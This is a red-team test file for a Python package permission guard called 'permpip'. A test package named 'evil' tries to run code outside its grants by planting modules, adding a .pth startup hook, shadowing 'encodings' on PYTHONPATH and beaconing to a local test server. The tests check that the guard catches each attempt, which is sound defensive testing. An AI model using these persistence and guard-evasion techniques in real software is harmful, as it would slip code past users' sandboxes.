"""Red team of ``permpip run``, seventh round: a package granted only ``fs-write`` runs code
as the application, and a directory after the guard on PYTHONPATH runs code before it.

1. ``evil`` (granted ``fs-write``) writes a module outside site-packages (the project
   directory, /tmp) and has it run: imported from a directory it puts on ``sys.path``, run
   with ``runpy``, imported from a zip, imported by a child process of the application. The
   guard classified such a file as the application's, which is granted everything.
2. ``evil`` (granted ``fs-write`` and ``env``) appends a directory holding ``encodings`` to
   PYTHONPATH, after the guard: every Python child imports it before ``site``, unguarded.

Harness: tests/runtime/test_guard_redteam5.py's (``run``, ``judged``, ``took_effect``),
with this round's own venv. Each attack proves its effect (a request the local server
received, a marker a child wrote) and the report docs/runtime.md describes. Precision:
the application's own generated modules, a package writing a data file while the
application imports its own code, pytest writing its ``.pyc`` files, are no violation.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.runtime.conftest import RunPermpip, Target, policy_toml, read_report
from tests.runtime.test_guard_redteam5 import MODES, evil_venv, judged, run

NET = """\
import urllib.request
urllib.request.urlopen({url!r} + "?{tag}").read()
print("planted: sent")
"""

EVIL = {
    "evil/__init__.py": "",
    "evil/plant.py": """\
        import os, runpy, sys, zipfile

        NET = {net!r}

        URL = []  # the target, set by the application

        def write(directory, name, tag):
            path = os.path.join(directory, name + ".py")
            with open(path, "w") as f:
                f.write(NET.format(url=URL[0], tag=tag))
            return path

        def via_path(directory):
            # a module written outside site-packages, its directory put on sys.path
            write(directory, "planted_mod", "path")
            sys.path.insert(0, directory)
            import planted_mod  # noqa: F401

        def via_runpy(directory):
            runpy.run_path(write(directory, "planted_run", "runpy"))

        def via_rename(directory):
            # written under a data name, renamed into a module
            path = os.path.join(directory, "data.txt")
            with open(path, "w") as f:
                f.write(NET.format(url=URL[0], tag="rename"))
            os.rename(path, os.path.join(directory, "planted_ren.py"))
            sys.path.insert(0, directory)
            import planted_ren  # noqa: F401

        def via_zip(directory):
            path = os.path.join(directory, "planted.zip")
            with zipfile.ZipFile(path, "w") as z:
                z.writestr("planted_zip.py", NET.format(url=URL[0], tag="zip"))
            sys.path.insert(0, path)
            import planted_zip  # noqa: F401

        def for_later(directory):
            # only written: the application (or a child of it) imports it later
            write(directory, "planted_later", "later")

        def data(directory):
            with open(os.path.join(directory, "data.json"), "w") as f:
                f.write("{}")

        def shadow_encodings(directory, marker):
            # a directory holding encodings appended to PYTHONPATH, after the guard: a
            # Python child imports it before site (so before its guard)
            pkg = os.path.join(directory, "encodings")
            os.makedirs(pkg)
            with open(os.path.join(pkg, "__init__.py"), "w") as f:
                f.write(SHADOW.format(marker=marker, directory=directory))
            os.environ["PYTHONPATH"] += os.pathsep + directory

        def pth(marker):
            # a .pth file in evil's own site directory: site runs its import lines as every
            # later Python starts, before sitecustomize (the guard)
            site = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
            path = os.path.join(site, "evil_hook.pth")
            line = ("import posix; fd = posix.open(%r, posix.O_WRONLY | posix.O_CREAT, 0o644); "
                    "posix.write(fd, b'ran before the guard'); posix.close(fd)\\n" % marker)
            try:
                with open(path, "w") as f:
                    f.write(line)
            except PermissionError as exc:
                print("refused:", exc)
            return path

        SHADOW = '''
        import posix, sys
        fd = posix.open({marker!r}, posix.O_WRONLY | posix.O_CREAT | posix.O_APPEND, 0o644)
        posix.write(fd, b"ran before the guard\\\\n")
        posix.close(fd)
        # the real encodings, so that the child starts
        del sys.modules["encodings"]
        saved = sys.path[:]
        sys.path[:] = [p for p in sys.path if p != {directory!r}]
        import encodings
        sys.path[:] = saved
        '''
        """.replace("{net!r}", repr(NET)),
}


@pytest.fixture(scope="module")
def python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A venv with this round's evil installed."""
    return evil_venv(tmp_path_factory, "redteam7-venv", EVIL)


FS_WRITE = '["fs-write"]'
FS_RW = '["fs-write", "fs-read"]'  # (runpy reads the file for its caller)


# -- 1. a module evil writes, run as the application ------------------------------------------


@MODES
@pytest.mark.parametrize("how", ["via_path", "via_runpy", "via_rename", "via_zip"])
def test_a_module_evil_writes_is_evils(tmp_path: Path, target: Target,
                                      run_permpip: RunPermpip, python: Path,
                                      enforce: bool, how: str) -> None:
    """evil writes a module outside site-packages and runs it: its network use is evil's
    (before: the application's, allowed, even with --enforce)."""
    plant = tmp_path / "plant"
    plant.mkdir()
    o = run(tmp_path, run_permpip, python, "import os, evil.plant\n"
            "evil.plant.URL.append(os.environ['TARGET_URL'])\n"
            "try:\n"
            f"    evil.plant.{how}({str(plant)!r})\n"
            "except OSError as exc:\n"
            "    print('refused:', exc)\n",
            grant=FS_RW, target=target, enforce=enforce)
    judged(o, target.requests, ("evil", "network"), enforce)
    assert o.code == 1
    assert [v["capability"] for v in o.report["violations"]] == ["network"], o.output
    if enforce:
        assert "permpip: evil 1.0 may not use network" in o.output


@MODES
def test_a_module_evil_wrote_imported_by_the_application(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        enforce: bool) -> None:
    """evil only writes the module; the application imports it: still evil's code."""
    o = run(tmp_path, run_permpip, python, "import os, sys, evil.plant\n"
            "evil.plant.URL.append(os.environ['TARGET_URL'])\n"
            "evil.plant.for_later('.')\n"
            "sys.path.insert(0, '.')\n"
            "try:\n"
            "    import planted_later\n"
            "except OSError as exc:\n"
            "    print('refused:', exc)\n",
            grant=FS_WRITE, target=target, enforce=enforce)
    judged(o, target.requests, ("evil", "network"), enforce)
    v = o.violation("network")
    assert v["where"].endswith("planted_later.py:2"), v
    assert v["phase"] == "import"


@MODES
def test_a_module_evil_wrote_imported_by_a_child_of_the_application(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        enforce: bool) -> None:
    """Written in one process, imported in another (the application's child): the run's
    processes share what distributions wrote (``written`` in the run directory)."""
    o = run(tmp_path, run_permpip, python, "import os, subprocess, sys, evil.plant\n"
            "evil.plant.URL.append(os.environ['TARGET_URL'])\n"
            "evil.plant.for_later('.')\n"
            "subprocess.run([sys.executable, '-c', 'import sys; sys.path.insert(0, \".\"); "
            "import planted_later'])\n",
            grant=FS_WRITE, target=target, enforce=enforce)
    judged(o, target.requests, ("evil", "network"), enforce)
    assert o.violation("network")["where"].endswith("planted_later.py:2")


# -- 2. PYTHONPATH after the guard: encodings imported before site ----------------------------


@MODES
def test_encodings_after_the_guard_on_pythonpath(tmp_path: Path, run_permpip: RunPermpip,
                                                 python: Path, enforce: bool) -> None:
    """evil appends a directory holding ``encodings`` to PYTHONPATH (the guard stays
    first): before, every Python child ran it before site, unguarded; now the directory
    is not passed on and the child starts with the real encodings."""
    marker = tmp_path / "marker"
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    o = run(tmp_path, run_permpip, python, "import subprocess, sys, evil.plant\n"
            f"evil.plant.shadow_encodings({str(shadow)!r}, {str(marker)!r})\n"
            "done = subprocess.run([sys.executable, '-c', 'import sys; print(\"child\", "
            "sys.path[1:2])'], capture_output=True, text=True)\n"
            "print(done.stdout, done.returncode)\n",
            grant='["fs-write", "env"]', enforce=enforce)
    assert not marker.exists(), o.output
    assert "child" in o.output and str(shadow) not in o.output, o.output
    assert o.report["violations"] == [], o.output


@MODES
def test_a_pth_file_evil_writes_in_site_packages(tmp_path: Path, run_permpip: RunPermpip,
                                                 python: Path, enforce: bool) -> None:
    """evil (granted fs-write) writes a .pth into its site directory; the application
    starts a Python child, whose site runs the line before the guard: ``guard``."""
    marker = tmp_path / "marker"
    site = next((python.parent.parent / "lib").glob("python*/site-packages"))
    try:
        o = run(tmp_path, run_permpip, python, "import subprocess, sys, evil.plant\n"
                f"evil.plant.pth({str(marker)!r})\n"
                "subprocess.run([sys.executable, '-c', 'pass'])\n",
                grant=FS_WRITE, enforce=enforce)
    finally:
        (site / "evil_hook.pth").unlink(missing_ok=True)
    judged(o, marker.exists(), ("evil", "guard"), enforce)
    assert "a .pth file" in o.violation("guard")["detail"]


def test_the_users_own_pythonpath_still_reaches_children(
        tmp_path: Path, run_permpip: RunPermpip, python: Path) -> None:
    """A directory on PYTHONPATH at start (the user's) is passed on as it was."""
    lib = tmp_path / "lib"
    lib.mkdir()
    (lib / "userlib.py").write_text("VALUE = 'user lib'\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text(policy_toml({}))
    (project / "main.py").write_text(
        "import subprocess, sys\n"
        "subprocess.run([sys.executable, '-c', 'import userlib; print(userlib.VALUE)'])\n")
    out = project / "report.json"
    done = run_permpip("run", "--format", "json", "--output", str(out), "--", str(python),
                       "main.py", cwd=project, extra_path=[lib])
    assert done.returncode == 0, done.stdout + done.stderr
    assert "user lib" in done.stdout
    assert read_report(out)["violations"] == []


# -- precision ----------------------------------------------------------------------------------


def test_the_applications_own_generated_module(tmp_path: Path, target: Target,
                                               run_permpip: RunPermpip,
                                               python: Path) -> None:
    """The application writes a module and imports it (code generation): its own."""
    o = run(tmp_path, run_permpip, python, "import os, sys\n"
            "os.makedirs('gen', exist_ok=True)\n"
            "open('gen/generated.py', 'w').write("
            "'import urllib.request, os\\n'"
            "'urllib.request.urlopen(os.environ[\"TARGET_URL\"] + \"?gen\").read()\\n')\n"
            "sys.path.insert(0, 'gen')\n"
            "import generated\n", target=target)
    assert target.requests == ["/beacon?gen"], o.output
    assert o.report["violations"] == [] and o.code == 0, o.output


def test_a_package_writing_data_beside_the_applications_code(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """evil writes a data file in the project; the application imports its own module
    from there: the application's."""
    o = run(tmp_path, run_permpip, python, "import os, evil.plant\n"
            "evil.plant.URL.append(os.environ['TARGET_URL'])\n"
            "evil.plant.data('.')\n"
            "import app_net\n", grant=FS_WRITE, target=target,
            files={"app_net.py": NET.format(url=target.url, tag="app")})
    assert target.requests == ["/beacon?app"], o.output
    assert o.report["violations"] == [] and o.code == 0, o.output


def test_pytest_writing_its_pyc_files(tmp_path: Path, target: Target,
                                      run_permpip: RunPermpip) -> None:
    """pytest (granted all but network) rewrites and caches the test modules and conftest
    (``__pycache__/*-pytest-*.pyc``, written by pytest): twice, the second run loading the
    cached files; the tests' own network use stays the application's."""
    project = tmp_path / "project"
    project.mkdir()
    caps = '["fs-read", "fs-write", "env", "dynamic-code", "introspection", "threads", ' \
        '"subprocess"]'
    grant = f"{{ allow = {caps}, at-import = {caps} }}"
    (project / "pyproject.toml").write_text(policy_toml({"pytest": grant}, default=grant))
    (project / "conftest.py").write_text("import pytest\n\n@pytest.fixture\n"
                                         "def url():\n    import os\n"
                                         "    return os.environ['TARGET_URL']\n")
    (project / "test_net.py").write_text(
        "import urllib.request\n\ndef test_net(url):\n"
        "    assert urllib.request.urlopen(url + '?pytest').read() == b'ok'\n")
    for n in (1, 2):
        out = project / "report.json"
        done = run_permpip("run", "--format", "json", "--output", str(out), "--",
                           sys.executable, "-m", "pytest", "-q", "-p", "no:randomly",
                           "-p", "no:xdist", cwd=project, env={"TARGET_URL": target.url,
                                                "PYTHONDONTWRITEBYTECODE": ""})
        assert read_report(out)["violations"] == [], (n, str(read_report(out)["violations"])[:300])
        assert done.returncode == 0, done.stdout + done.stderr
        assert target.requests == ["/beacon?pytest"] * n
    assert any((project / "__pycache__").glob("test_net.*pytest*.pyc"))

